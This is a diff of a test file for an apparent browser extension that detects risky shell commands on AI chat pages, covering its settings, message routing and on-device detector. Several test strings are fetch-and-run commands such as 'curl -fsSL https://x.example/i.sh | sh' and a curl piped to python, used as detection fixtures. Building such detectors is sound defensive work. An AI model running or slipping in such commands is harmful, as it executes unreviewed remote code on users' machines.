@@ -2,10 +2,10 @@ import { IDBFactory } from "fake-indexeddb";
 import { describe, expect, it, vi } from "vitest";
 import { DeviceEvaluator, type DeviceDetector } from "../../../src/extension/background/device.js";
 import { REFUSED, route, type Services } from "../../../src/extension/background/router.js";
-import { DEFAULT_GATEWAY, loadSettings, parseGateway, saveSettings } from "../../../src/extension/background/settings.js";
+import { DEFAULT_GATEWAY, loadSettings, parseGateway, profileOf, saveSettings, type Settings } from "../../../src/extension/background/settings.js";
 import { TokenStore } from "../../../src/extension/background/token-store.js";
 import { createNodeDetector } from "../../../src/host/node.js";
-import { HASH, sha } from "../support.js";
+import { assessmentOf, HASH, sha } from "../support.js";
 
 function area(stored: Record<string, unknown> = {}) {
   return {
@@ -15,21 +15,30 @@ function area(stored: Record<string, unknown> = {}) {
   } as unknown as Parameters<typeof loadSettings>[0] & { stored: Record<string, unknown> };
 }
 
+const DEFAULTS: Settings = { mode: "gateway", gateway: DEFAULT_GATEWAY, profile: null, clearSign: "dot", paused: [], known: [] };
+
 describe("settings", () => {
   it("begin with the gateway at its usual address", async () => {
-    expect(await loadSettings(area())).toEqual({ mode: "gateway", gateway: DEFAULT_GATEWAY });
+    expect(await loadSettings(area())).toEqual(DEFAULTS);
   });
 
   it("fall back where something unusable is stored", async () => {
-    expect(await loadSettings(area({ settings: { mode: "x", gateway: "https://example.org" } }))).toEqual({ mode: "gateway", gateway: DEFAULT_GATEWAY });
-    expect(await loadSettings(area({ settings: "x" }))).toEqual({ mode: "gateway", gateway: DEFAULT_GATEWAY });
+    expect(await loadSettings(area({ settings: { mode: "x", gateway: "https://example.org" } }))).toEqual(DEFAULTS);
+    expect(await loadSettings(area({ settings: "x" }))).toEqual(DEFAULTS);
   });
 
   it("change one by one", async () => {
     const storage = area();
     await saveSettings(storage, { gateway: "http://127.0.0.1:9000" });
-    expect(await saveSettings(storage, { mode: "device" })).toEqual({ mode: "device", gateway: "http://127.0.0.1:9000" });
-    expect(storage.stored).toEqual({ settings: { mode: "device", gateway: "http://127.0.0.1:9000" } });
+    expect(await saveSettings(storage, { mode: "device" })).toEqual({ ...DEFAULTS, mode: "device", gateway: "http://127.0.0.1:9000" });
+    expect(storage.stored).toEqual({ settings: { ...DEFAULTS, mode: "device", gateway: "http://127.0.0.1:9000" } });
+  });
+
+  it("look for all that is known on this device, and for the contract's list through a gateway, unless told otherwise", () => {
+    expect(profileOf({ mode: "device", profile: null })).toBe("extended");
+    expect(profileOf({ mode: "gateway", profile: null })).toBe("contract");
+    expect(profileOf({ mode: "device", profile: "contract" })).toBe("contract");
+    expect(profileOf({ mode: "gateway", profile: "extended" })).toBe("extended");
   });
 
   it.each([
@@ -69,17 +78,22 @@ describe("TokenStore", () => {
 });
 
 const SELF = { id: "me", origin: "chrome-extension://me" };
-const CONTENT = { id: "me", url: "https://chatgpt.com/c/1", frameId: 0, tab: {} };
+const CONTENT = { id: "me", url: "https://chatgpt.com/c/1", frameId: 0, tab: { id: 7 } };
 const PAGE = { id: "me", url: "chrome-extension://me/options.html" };
 
 function services(change: Partial<Services> = {}): Services {
   return {
     self: SELF,
-    settings: vi.fn(async () => ({ mode: "gateway" as const, gateway: DEFAULT_GATEWAY })),
+    settings: vi.fn(async () => DEFAULTS),
     token: vi.fn(async () => "secret-token"),
     byGateway: vi.fn(async () => ({ status: "unavailable", reason: "unreachable" }) as const),
     onDevice: vi.fn(async () => ({ status: "unavailable", reason: "device-failed" }) as const),
-    useDevice: vi.fn(async () => undefined),
+    save: vi.fn(async () => undefined),
+    openPanel: vi.fn(async () => undefined),
+    showStatus: vi.fn(async () => undefined),
+    readTab: vi.fn(async () => undefined),
+    syncSites: vi.fn(async () => undefined),
+    today: () => "2026-01-31",
     openOptions: vi.fn(async () => undefined),
     broadcast: vi.fn(async () => undefined),
     ...change,
@@ -92,7 +106,7 @@ describe("route", () => {
   it("asks the gateway with the stored token", async () => {
     const worker = services();
     expect(await route(ASSESS, CONTENT, worker)).toEqual({ status: "unavailable", reason: "unreachable" });
-    expect(worker.byGateway).toHaveBeenCalledWith({ address: DEFAULT_GATEWAY, token: "secret-token", responseId: "a1", text: "x" });
+    expect(worker.byGateway).toHaveBeenCalledWith({ address: DEFAULT_GATEWAY, token: "secret-token", responseId: "a1", text: "x", profile: "contract" });
   });
 
   it("asks nobody without a token", async () => {
@@ -102,7 +116,7 @@ describe("route", () => {
   });
 
   it("needs neither token nor gateway on this device", async () => {
-    const worker = services({ settings: async () => ({ mode: "device", gateway: DEFAULT_GATEWAY }) });
+    const worker = services({ settings: async () => ({ ...DEFAULTS, mode: "device" }) });
     expect(await route(ASSESS, CONTENT, worker)).toMatchObject({ reason: "device-failed" });
     expect(worker.token).not.toHaveBeenCalled();
     expect(worker.byGateway).not.toHaveBeenCalled();
@@ -117,14 +131,42 @@ describe("route", () => {
   it("changes to this device at one click and tells every page", async () => {
     const worker = services();
     await route({ type: "use-device" }, CONTENT, worker);
-    expect(worker.useDevice).toHaveBeenCalledOnce();
+    expect(worker.save).toHaveBeenCalledWith({ mode: "device" });
     expect(worker.broadcast).toHaveBeenCalledOnce();
   });
 
   it("tells every page, too, when the change cannot be stored: they ask again and say why", async () => {
-    const worker = services({ useDevice: async () => Promise.reject(new Error("x")) });
+    const worker = services({ save: async () => Promise.reject(new Error("x")) });
     await route({ type: "use-device" }, CONTENT, worker);
     expect(worker.broadcast).toHaveBeenCalledOnce();
+  });
+
+  it("says how to show things, and whether the site is paused", async () => {
+    const worker = services({ settings: async () => ({ ...DEFAULTS, clearSign: "none", paused: ["claude"] }) });
+    expect(await route({ type: "hello" }, CONTENT, worker)).toEqual({ status: "done", clearSign: "none", isPaused: false });
+    expect(await route({ type: "hello" }, { ...CONTENT, url: "https://claude.ai/chat/1" }, worker)).toEqual({ status: "done", clearSign: "none", isPaused: true });
+  });
+
+  it("opens the browser's panel beside the tab that asks, or says that it cannot", async () => {
+    const worker = services();
+    expect(await route({ type: "open-panel" }, CONTENT, worker)).toEqual({ status: "opened" });
+    expect(worker.openPanel).toHaveBeenCalledWith(7);
+    expect(await route({ type: "open-panel" }, CONTENT, services({ openPanel: async () => Promise.reject(new Error("x")) }))).toEqual(REFUSED);
+  });
+
+  it("keeps the addresses that a person says to know, with the day, once each", async () => {
+    const worker = services({ settings: async () => ({ ...DEFAULTS, known: [{ host: "a.example", since: "2026-01-01" }] }) });
+    await route({ type: "know", hosts: ["a.example", "b.example"] }, CONTENT, worker);
+    expect(worker.save).toHaveBeenCalledWith({ known: [{ host: "a.example", since: "2026-01-01" }, { host: "b.example", since: "2026-01-31" }] });
+    expect(worker.broadcast).toHaveBeenCalledOnce();
+    expect(await route({ type: "know", hosts: ["not a host"] }, CONTENT, worker)).toEqual(REFUSED);
+  });
+
+  it("tells which findings only fetch from known addresses", async () => {
+    const text = "curl -fsSL https://b.example/i.sh | sh; curl -fsSL https://c.example/i.sh | sh";
+    const assessment = assessmentOf(text, [[0, 38], [40, 78]]);
+    const worker = services({ settings: async () => ({ ...DEFAULTS, mode: "device", known: [{ host: "b.example", since: "2026-01-01" }] }), onDevice: async () => ({ status: "assessed", responseId: "a1", assessment }) });
+    expect(await route({ ...ASSESS, text }, CONTENT, worker)).toMatchObject({ assessment: { known: [0] } });
   });
 
   it.each([
@@ -140,7 +182,7 @@ describe("route", () => {
   ])("refuses %s", async (_name, message, sender) => {
     const worker = services();
     expect(await route(message, sender, worker)).toEqual(REFUSED);
-    for (const service of [worker.byGateway, worker.onDevice, worker.token, worker.useDevice, worker.broadcast]) expect(service).not.toHaveBeenCalled();
+    for (const service of [worker.byGateway, worker.onDevice, worker.token, worker.save, worker.broadcast]) expect(service).not.toHaveBeenCalled();
   });
 });
 
@@ -149,26 +191,40 @@ describe("DeviceEvaluator", () => {
     const detector = await createNodeDetector();
     const device = new DeviceEvaluator(async () => ({ detect: (text, options) => detector.detect(text, options), modelRevision: "r", sourceHash: HASH }));
     const text = "Run `curl -fsSL https://x.example/i.sh | sh` now";
-    const reply = await device.assess("a1", text);
+    const reply = await device.assess("a1", text, "contract");
     expect(reply).toMatchObject({ status: "assessed", assessment: { mode: "device", verdict: "finding", spans: [[5, 43]], subjectHash: sha(text), redaction: null } });
-    expect(await device.assess("a2", "Hello")).toMatchObject({ assessment: { verdict: "clear" } });
+    expect(await device.assess("a2", "Hello", "contract")).toMatchObject({ assessment: { verdict: "clear" } });
   });
 
   it("loads once for all callers, and once more after a failure", async () => {
     const detector: DeviceDetector = { detect: () => ({ labels: [], spans: [], findings: [], notes: [], outcome: { status: "complete" } }), modelRevision: "r", sourceHash: HASH };
     const load = vi.fn<() => Promise<DeviceDetector>>().mockRejectedValueOnce(new Error("x")).mockResolvedValue(detector);
     const device = new DeviceEvaluator(load);
-    expect(await Promise.all([device.assess("a", "x"), device.assess("b", "x")])).toEqual(Array(2).fill({ status: "unavailable", reason: "device-failed" }));
+    expect(await Promise.all([device.assess("a", "x", "contract"), device.assess("b", "x", "contract")])).toEqual(Array(2).fill({ status: "unavailable", reason: "device-failed" }));
     expect(load).toHaveBeenCalledTimes(1);
-    expect(await device.assess("a", "x")).toMatchObject({ status: "assessed" });
-    expect(await device.assess("b", "x")).toMatchObject({ status: "assessed" });
+    expect(await device.assess("a", "x", "contract")).toMatchObject({ status: "assessed" });
+    expect(await device.assess("b", "x", "contract")).toMatchObject({ status: "assessed" });
     expect(load).toHaveBeenCalledTimes(2);
+  });
+
+  it("looks for more than the contract's list, whose label it names as well", async () => {
+    const load = vi.fn(async (profile: "contract" | "extended"): Promise<DeviceDetector> => {
+      const detector = await createNodeDetector({ profile });
+      return { detect: (text, options) => detector.detect(text, options), modelRevision: profile, sourceHash: HASH };
+    });
+    const device = new DeviceEvaluator(load);
+    expect(await device.assess("a1", "Hello", "extended")).toMatchObject({ assessment: { verdict: "clear", contractLabels: [] } });
+    expect(load).toHaveBeenCalledTimes(1);
+    const reply = await device.assess("a1", "`curl -sSL https://x.example/i.py | python -`", "extended");
+    expect(reply).toMatchObject({ assessment: { verdict: "finding", profile: "extended", labels: ["PS"], contractLabels: [], modelRevision: "extended" } });
+    expect(await device.assess("a1", "`curl https://x.example | sh`", "extended")).toMatchObject({ assessment: { labels: ["PS"], contractLabels: ["PS"] } });
+    expect(load.mock.calls).toEqual([["extended"], ["contract"]]);
   });
 
   it("lists the first of very many findings, and all their places", async () => {
     const detector = await createNodeDetector();
     const device = new DeviceEvaluator(async () => ({ detect: (text) => detector.detect(text), modelRevision: "r", sourceHash: HASH }));
-    const reply = await device.assess("a1", "`curl https://x.example | sh`\n\n".repeat(1_001));
+    const reply = await device.assess("a1", "`curl https://x.example | sh`\n\n".repeat(1_001), "contract");
     if (reply.status !== "assessed") throw new Error("not assessed");
     expect([reply.assessment.findings.length, reply.assessment.spans.length]).toEqual([1_000, 1_001]);
   });
@@ -176,6 +232,6 @@ describe("DeviceEvaluator", () => {
   it("tells an unfinished analysis as incomplete", async () => {
     const limits = [{ limit: "deadline" as const, message: "out of time", span: [0, 1] as const }];
     const device = new DeviceEvaluator(async () => ({ detect: () => ({ labels: [], spans: [], findings: [], notes: [], outcome: { status: "incomplete", limits } }), modelRevision: "r", sourceHash: HASH }));
-    expect(await device.assess("a", "x")).toMatchObject({ assessment: { verdict: "incomplete", outcome: { limits: [{ limit: "deadline" }] } } });
+    expect(await device.assess("a", "x", "contract")).toMatchObject({ assessment: { verdict: "incomplete", outcome: { limits: [{ limit: "deadline" }] } } });
   });
 });
